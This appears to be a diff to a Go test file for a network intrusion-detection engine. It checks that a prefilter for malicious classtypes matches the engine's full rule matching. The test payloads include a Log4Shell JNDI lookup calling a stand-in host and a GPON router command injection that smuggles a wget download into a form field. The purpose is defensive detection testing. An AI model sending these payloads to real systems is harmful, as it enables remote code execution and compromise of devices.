@@ -270,3 +270,32 @@ func TestEngineConcurrentMatch(t *testing.T) {
 	}
 	wg.Wait()
 }
+
+// TestMaliciousPrefilterEquivalence checks the malicious-classtype
+// bucket: Malicious must agree with scanning Match's alerts for
+// malicious classtypes on every (proto, port, payload) combination.
+func TestMaliciousPrefilterEquivalence(t *testing.T) {
+	e := DefaultEngine()
+	payloads := [][]byte{
+		[]byte("GET /?x=${jndi:ldap://callback.evil/a} HTTP/1.1\r\nHost: s\r\n\r\n"),
+		[]byte("GET / HTTP/1.1\r\nHost: s\r\n\r\n"),
+		[]byte("POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: s\r\n\r\nXWebPageName=diag&diag_action=ping&dest_host=;wget http://d/g"),
+		[]byte("\xff\xfd\x03\xff\xfb\x18"),
+		[]byte("random bytes that match nothing"),
+	}
+	for _, proto := range []string{"tcp", "udp"} {
+		for _, port := range []uint16{22, 23, 80, 443, 8080, 2323, 9999} {
+			for _, p := range payloads {
+				want := false
+				for _, a := range e.Match(proto, port, p) {
+					if MaliciousClasstypes[a.Classtype] {
+						want = true
+					}
+				}
+				if got := e.Malicious(proto, port, p); got != want {
+					t.Fatalf("%s/%d %.20q: Malicious=%v, Match says %v", proto, port, p, got, want)
+				}
+			}
+		}
+	}
+}
